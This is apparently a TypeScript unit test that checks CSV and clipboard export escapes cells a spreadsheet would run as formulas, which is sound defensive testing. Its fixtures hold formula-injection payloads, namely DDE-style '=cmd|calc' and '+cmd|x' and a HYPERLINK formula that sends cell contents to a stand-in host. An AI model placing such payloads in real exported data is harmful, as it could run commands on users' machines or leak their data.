import assert from 'node:assert/strict';
import { toCsv, toTsv } from '../../../src/extension/results/table-text';

describe('exported cells (CSV file, clipboard)', () => {
  const data = {
    columns: [{ name: 'note' }, { name: '=cmd|calc' }],
    rows: [
      ['=HYPERLINK("http://x.example/?"&A1,"click")', -5],
      ['@SUM(A1:A9)', '-5.25'],
      ['+1e3', '+cmd|x'],
      ['-2+3', '\tTAB'],
      ['plain', null],
    ],
  };

  it('a value a spreadsheet would run as a formula is kept as text, numbers stay numbers', () => {
    const csv = toCsv(data).split('\r\n');
    assert.equal(csv[0], `note,'=cmd|calc`);
    assert.equal(csv[1], `"'=HYPERLINK(""http://x.example/?""&A1,""click"")",-5`);
    assert.equal(csv[2], `'@SUM(A1:A9),-5.25`);
    assert.equal(csv[3], `+1e3,'+cmd|x`);
    assert.equal(csv[4], `'-2+3,'\tTAB`);
    assert.equal(csv[5], 'plain,');
  });

  it('the clipboard text neutralises the same cells', () => {
    const tsv = toTsv(data).split('\n');
    assert.equal(tsv[0], `note\t'=cmd|calc`);
    assert.equal(tsv[1]!.split('\t')[0], `'=HYPERLINK("http://x.example/?"&A1,"click")`);
    assert.equal(tsv[2], `'@SUM(A1:A9)\t-5.25`);
    assert.equal(tsv[4], `'-2+3\t' TAB`);
    for (const line of tsv) for (const cell of line.split('\t')) assert.ok(!/^[=+\-@]/.test(cell) || /^[+-]?[\d.]/.test(cell), cell);
  });
});
